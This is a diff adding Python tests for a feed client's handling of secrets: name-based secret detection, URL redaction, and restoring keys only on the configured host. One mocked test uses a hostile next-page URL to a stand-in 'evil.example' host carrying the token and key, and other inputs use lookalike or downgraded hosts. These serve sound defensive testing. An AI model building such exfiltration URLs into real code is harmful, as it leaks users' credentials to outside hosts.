@@ -81,6 +81,84 @@ def test_which_names_count_as_secret():
     from core.platform.http import is_secret_name
 
     secret = ["api_key", "access_token", "authToken", "X-Api-Key", "sig", "password", "client_secret", "token", "key"]
-    not_secret = ["next_token", "author", "keywords", "page", "q", "user-agent"]
+    secret += ["apikey", "apiKey", "signature", "auth", "Authorization", "x-subscription-token", "secret_key"]
+    secret += ["Ocp-Apim-Subscription-Key", "refresh_token", "oauth", "credentials", "pwd"]
+    not_secret = ["next_token", "author", "keywords", "page", "q", "user-agent", "page_token", "monkey"]
+    # About a credential, or a cursor, but not one: they must stay in the snapshot key.
+    not_secret += ["page_key", "sort_key", "auth_mode", "sig_version", "token_type", "key_id", "signed", "tokens"]
     assert [name for name in secret if not is_secret_name(name)] == []
     assert [name for name in not_secret if is_secret_name(name)] == []
+
+
+@respx.mock(assert_all_called=True)
+def test_a_feed_naming_another_host_as_its_next_page_is_not_given_the_key(warehouse: Warehouse, respx_mock):
+    # The feed's next_url points elsewhere; the client masks the echoed key, and paging must not
+    # put the real key back into a URL on another host (the feed would steal its own key).
+    evil_next = f"https://evil.example/collect?token={TOKEN}&key={KEY}"
+    respx_mock.get(url__startswith="https://feeds.example.com/jobs.json").mock(
+        return_value=httpx.Response(200, json=_page([_item(1)], evil_next))
+    )
+    evil = respx_mock.get(url__startswith="https://evil.example/").mock(
+        return_value=httpx.Response(200, json=_page([], None))
+    )
+
+    source = feed_class(FeedConfig("jobs_with_token", "freelance", FEED_URL, max_items=10))({})
+    discover(source, warehouse, "live", client=SourceClient(source.name, sleep=lambda s: None))
+
+    sent = [str(call.request.url) for call in evil.calls]
+    assert sent and all(TOKEN not in url and KEY not in url for url in sent), sent
+
+
+def test_secrets_are_restored_only_on_the_configured_scheme_and_host():
+    from core.platform.http import with_secrets_of
+
+    configured = "https://feeds.example.com/jobs.json?key=real-key-123"
+    assert with_secrets_of("https://feeds.example.com/jobs.json?key=***&page=2", configured) == (
+        "https://feeds.example.com/jobs.json?key=real-key-123&page=2"
+    )
+    for elsewhere in (
+        "https://evil.example/x?key=***",
+        "http://feeds.example.com/jobs.json?key=***",  # downgraded to plain text
+        "https://feeds.example.com:8443/jobs.json?key=***",
+        "https://feeds.example.com.evil.example/jobs.json?key=***",
+    ):
+        assert with_secrets_of(elsewhere, configured) == elsewhere
+
+
+PASSWORD = "pw-9c41d7e2f0"
+BASIC_FEED_URL = f"https://reader:{PASSWORD}@feeds.example.com/private.json?lang=en"
+
+
+@respx.mock(assert_all_called=True)
+def test_a_password_in_the_feed_urls_userinfo_is_masked_in_stored_urls_and_errors(warehouse: Warehouse, respx_mock):
+    answers = iter([httpx.Response(200, json=_page([_item(1)], None)), httpx.Response(404)])
+    respx_mock.get(url__startswith="https://feeds.example.com/private.json").mock(
+        side_effect=lambda request: next(answers)
+    )
+    source = feed_class(FeedConfig("private_feed", "freelance", BASIC_FEED_URL, max_items=10))({})
+    ok = discover(source, warehouse, "live", client=SourceClient(source.name, sleep=lambda s: None))
+    failed = discover(source, warehouse, "live", client=SourceClient(source.name, sleep=lambda s: None))
+
+    assert ok.status == "ok", ok.message
+    assert failed.status != "ok" and PASSWORD not in failed.message and "reader:***@" in failed.message
+    urls = warehouse.read("raw.responses")["request_url"].tolist()
+    assert urls and all(url.startswith("https://reader:***@feeds.example.com/private.json") for url in urls), urls
+    for schema, table in warehouse.query(
+        "SELECT table_schema, table_name FROM information_schema.tables "
+        "WHERE table_schema IN ('raw', 'core', 'quarantine', 'ops')"
+    ).itertuples(index=False):
+        assert PASSWORD not in warehouse.read(f"{schema}.{table}").to_csv(), f"{schema}.{table} stores the password"
+
+
+def test_redact_url_masks_the_userinfo_password_and_keeps_the_rest():
+    from core.platform.http import redact_url, with_secrets_of
+
+    assert redact_url("https://user:s3cret@host.example/a?q=1&key=k") == "https://user:***@host.example/a?q=1&key=***"
+    assert redact_url("https://user@host.example/a") == "https://user@host.example/a"
+    assert redact_url("https://host.example/a?q=1") == "https://host.example/a?q=1"
+    # A next page the client masked gets the configured password back, on the configured host only.
+    configured = "https://user:s3cret@host.example/a"
+    assert with_secrets_of("https://user:***@host.example/a?page=2", configured) == (
+        "https://user:s3cret@host.example/a?page=2"
+    )
+    assert with_secrets_of("https://user:***@evil.example/a", configured) == "https://user:***@evil.example/a"
